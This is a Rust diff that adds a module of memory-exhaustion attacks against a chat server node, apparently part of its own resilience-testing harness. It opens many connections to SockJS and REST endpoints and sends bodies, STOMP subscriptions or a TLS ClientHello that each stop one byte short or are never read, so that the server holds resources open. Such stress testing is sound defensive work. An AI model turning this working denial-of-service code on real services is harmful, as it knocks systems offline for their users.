@@ -1,0 +1,117 @@
+//! Attacks on the memory of the node before a session exists: bodies and handshakes that do not end.
+
+use serde_json::json;
+use tokio::io::AsyncWriteExt as _;
+use tokio::net::TcpStream;
+use tokio::task::JoinSet;
+use tokio::time::sleep;
+
+use super::{Attacker, Outcome, PAUSE, drain, send};
+
+/// The longest body that a node took for `xhr_send`, nearly.
+const SOCKJS_BYTES: usize = 661_000;
+/// How many requests each SockJS session has.
+const REQUESTS: usize = 90;
+
+/// A SockJS session of which nothing is received.
+struct SockJs {
+    stream: TcpStream,
+    path: String,
+}
+
+impl SockJs {
+    async fn open(attacker: &Attacker) -> Outcome<Self> {
+        let mut stream = attacker.place.open().await?;
+        let path = format!("/ws-chat/000/{:016x}", rand::random::<u64>());
+        let line = format!("POST {path}/xhr");
+        attacker.exchange(&mut stream, &line, b"").await?;
+        Ok(Self { stream, path })
+    }
+
+    async fn send(&mut self, attacker: &Attacker, frame: &[u8]) -> Outcome<()> {
+        let body = json!([String::from_utf8_lossy(frame)]).to_string();
+        let line = format!("POST {}/xhr_send", self.path);
+        attacker
+            .exchange(&mut self.stream, &line, body.as_bytes())
+            .await?;
+        Ok(())
+    }
+}
+
+/// Bodies for one session, all but the last byte of each.
+pub(super) async fn withheld_sockjs(attacker: &mut Attacker) -> Outcome<()> {
+    let session = SockJs::open(attacker).await?;
+    bodies(attacker, &session.path, SOCKJS_BYTES - 1).await
+}
+
+/// Whole bodies for a session that waits until its client receives, which they never do.
+pub(super) async fn stalled_sockjs(attacker: &mut Attacker) -> Outcome<()> {
+    let mut session = SockJs::open(attacker).await?;
+    let topic = format!("/topic{}", session.path);
+    let connect = b"CONNECT\naccept-version:1.2\nhost:x\nvisitor-token:new\n\n\0";
+    session.send(attacker, connect).await?;
+    let subscribe = format!("SUBSCRIBE\nid:1\ndestination:{topic}\n\n\0");
+    session.send(attacker, subscribe.as_bytes()).await?;
+    let large = send(&topic, &"x".repeat(30 << 10));
+    for _ in 0..6 {
+        session.send(attacker, &large).await?;
+    }
+    bodies(attacker, &session.path, SOCKJS_BYTES).await
+}
+
+/// Sends the first bytes of a long body for a session on many sockets at once, until all are closed.
+async fn bodies(attacker: &Attacker, path: &str, bytes: usize) -> Outcome<()> {
+    let mut body = b"[\"".to_vec();
+    body.resize(SOCKJS_BYTES - 2, b'x');
+    body.extend_from_slice(b"\"]");
+    body.truncate(bytes);
+    let body: std::rc::Rc<[u8]> = body.into();
+    let head = attacker.request(&format!("POST {path}/xhr_send"), SOCKJS_BYTES);
+    let mut requests = JoinSet::new();
+    for _ in 0..REQUESTS {
+        let (place, head, body) = (attacker.place, head.clone(), body.clone());
+        requests.spawn_local(async move {
+            let mut stream = place.open().await?;
+            stream.write_all(&head).await?;
+            stream.write_all(&body).await?;
+            drain(stream).await
+        });
+        sleep(PAUSE).await;
+    }
+    while requests.join_next().await.is_some() {}
+    Ok(())
+}
+
+/// SockJS sessions that are opened and left alone.
+pub(super) async fn abandoned_sockjs(attacker: &mut Attacker) -> Outcome<()> {
+    let mut stream = attacker.place.open().await?;
+    for _ in 0..100 {
+        let line = format!("POST /ws-chat/000/{:016x}/xhr", rand::random::<u64>());
+        attacker.exchange(&mut stream, &line, b"").await?;
+        sleep(PAUSE).await;
+    }
+    Ok(())
+}
+
+/// A body for REST, all but its last byte.
+pub(super) async fn withheld_rest(attacker: &mut Attacker) -> Outcome<()> {
+    const BYTES: usize = 60_000;
+    let mut stream = attacker.place.open().await?;
+    let head = attacker.request("POST /api/v1/auth/login", BYTES);
+    stream.write_all(&head).await?;
+    stream.write_all(&vec![b' '; BYTES - 1]).await?;
+    drain(stream).await
+}
+
+/// The first message of TLS, all but its last byte.
+pub(super) async fn withheld_handshake(attacker: &mut Attacker) -> Outcome<()> {
+    const BYTES: u16 = 16 << 10;
+    let mut stream = attacker.place.open().await?;
+    // A record of a handshake, and in it a ClientHello that fills it.
+    let [high, low] = BYTES.to_be_bytes();
+    let [hello_high, hello_low] = (BYTES - 4).to_be_bytes();
+    let mut record = vec![22, 3, 1, high, low, 1, 0, hello_high, hello_low, 3, 3];
+    record.resize(5 + usize::from(BYTES) - 1, 0);
+    stream.write_all(&record).await?;
+    drain(stream).await
+}
